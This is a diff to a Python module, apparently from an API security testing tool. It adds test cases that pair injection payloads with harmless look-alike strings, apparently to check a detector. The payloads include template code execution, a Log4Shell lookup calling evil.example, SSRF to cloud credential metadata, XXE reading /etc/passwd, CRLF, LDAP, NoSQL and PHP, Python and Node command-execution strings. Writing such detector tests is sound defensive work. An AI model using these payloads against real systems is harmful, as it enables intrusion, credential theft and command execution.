@@ -3,16 +3,19 @@
 from typing import Final
 
 from doorward.attack.case import Attack
+from doorward.controls.inspect.verdict import Threat
 
 _INJECTION: Final = "API8:2023 Security misconfiguration"
 
 
-def _text_attack(name: str, threat: str, title: str, source: str, send: str, twin: str) -> Attack:
+def _text_attack(
+    name: str, threat: Threat, title: str, source: str, send: str, twin: str, risk: str = _INJECTION
+) -> Attack:
     return Attack(
         id=f"inspect.{name}",
         name=title,
         earns=f"inspect.{threat}",
-        threat=_INJECTION,
+        threat=risk,
         source=source,
         send=lambda samples: samples.text(send),
         twin=lambda samples: samples.text(twin),
@@ -107,5 +110,151 @@ ATTACKS: Final[tuple[Attack, ...]] = (
         "CWE-22; CWE-174",
         "..%252f..%252f..%252fetc%252fpasswd",
         "50%25 of etc. is fine",
+    ),
+    _text_attack(
+        "nosql_operator",
+        "nosql",
+        "ask a document store for everything that differs from nothing",
+        "CWE-943; OWASP WSTG-INPV-05.6",
+        '{"$ne": null}',
+        "it costs $5 or more",
+    ),
+    _text_attack(
+        "nosql_script",
+        "nosql",
+        "leave a string of JavaScript that a document store runs",
+        "CWE-943",
+        "'; return true; var x='",
+        "return the book; it's late",
+    ),
+    _text_attack(
+        "ldap_filter",
+        "ldap",
+        "end a condition of a search filter and add one",
+        "CWE-90; OWASP WSTG-INPV-06",
+        "admin)(|(uid=*",
+        "Ann (admin), Bob (user)",
+    ),
+    _text_attack(
+        "xpath_condition",
+        "xpath",
+        "leave a string of a query over XML",
+        "CWE-643; OWASP WSTG-INPV-09",
+        "x'] | //user/password | //a['",
+        "a | b, see [1]",
+    ),
+    _text_attack(
+        "template_arithmetic",
+        "template",
+        "find out whether a template engine evaluates input",
+        "CWE-1336; OWASP WSTG-INPV-18",
+        "{{7*7}}",
+        "Dear {{ name }}, 7 * 7 is 49",
+    ),
+    _text_attack(
+        "template_code",
+        "template",
+        "reach the inside of the language from a template",
+        "CWE-1336",
+        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+        "{{ user.first_name }} has read it",
+    ),
+    _text_attack(
+        "template_lookup",
+        "template",
+        "have a logging library load a class from elsewhere",
+        "CVE-2021-44228; CWE-917",
+        "${${lower:j}ndi:ldap://evil.example/a}",
+        "${amount} due",
+    ),
+    _text_attack(
+        "ssrf_metadata",
+        "ssrf",
+        "have the API fetch a cloud's credentials",
+        "CWE-918; OWASP WSTG-INPV-19",
+        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+        "https://example.com/latest/meta-data/",
+        "API7:2023 Server side request forgery",
+    ),
+    _text_attack(
+        "ssrf_disguise",
+        "ssrf",
+        "have the API fetch from itself, its address written as one number",
+        "CWE-918",
+        "http://2130706433/admin",
+        "http://localhost:3000/callback",
+        "API7:2023 Server side request forgery",
+    ),
+    _text_attack(
+        "xxe_entity",
+        "xxe",
+        "have a parser of XML read a file",
+        "CWE-611; OWASP WSTG-INPV-07",
+        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+        '<?xml version="1.0"?><order id="5"/>',
+    ),
+    _text_attack(
+        "crlf_header",
+        "crlf",
+        "add a header field to the API's answer",
+        "CWE-113; OWASP WSTG-INPV-15",
+        "en%0d%0aSet-Cookie: session=stolen",
+        "100%, cookie: one set",
+    ),
+    _text_attack(
+        "crlf_mail",
+        "crlf",
+        "add recipients to a mail that the API sends",
+        "CWE-93; OWASP WSTG-INPV-10",
+        "ann@example.com%0aBcc: everybody@example.com",
+        "ann@example.com, bcc: everybody",
+    ),
+    _text_attack(
+        "prototype_member",
+        "prototype",
+        "give every object of a JavaScript server a property",
+        "CWE-1321",
+        '{"__proto__": {"isAdmin": true}}',
+        "the constructor of the prototype",
+    ),
+    _text_attack(
+        "deserialization_object",
+        "deserialization",
+        "have PHP build an object of the attacker's choice",
+        "CWE-502; OWASP WSTG-INPV-11",
+        'O:4:"Evil":1:{s:3:"cmd";s:2:"id";}',
+        'O:4 and "Evil":1',
+    ),
+    _text_attack(
+        "ssi_directive",
+        "ssi",
+        "have the web server run a command while it sends a page",
+        "CWE-97; OWASP WSTG-INPV-08",
+        '<!--#exec cmd="id" -->',
+        "<!-- a note -->",
+    ),
+    _text_attack(
+        "code_php",
+        "code",
+        "have PHP evaluate a statement",
+        "CWE-95; OWASP WSTG-INPV-11",
+        "call_user_func('system', 'id')",
+        "call the user (his function is known)",
+    ),
+    _text_attack(
+        "code_python",
+        "code",
+        "have Python import a module and run a command",
+        "CWE-95",
+        "__import__('os').popen('id').read()",
+        "import the goods, then open the box (and read)",
+    ),
+    _text_attack(
+        "code_node",
+        "code",
+        "have a JavaScript server run a command",
+        "CWE-95",
+        "require('child_process').exec('id')",
+        "we require a child seat (process it today)",
     ),
 )
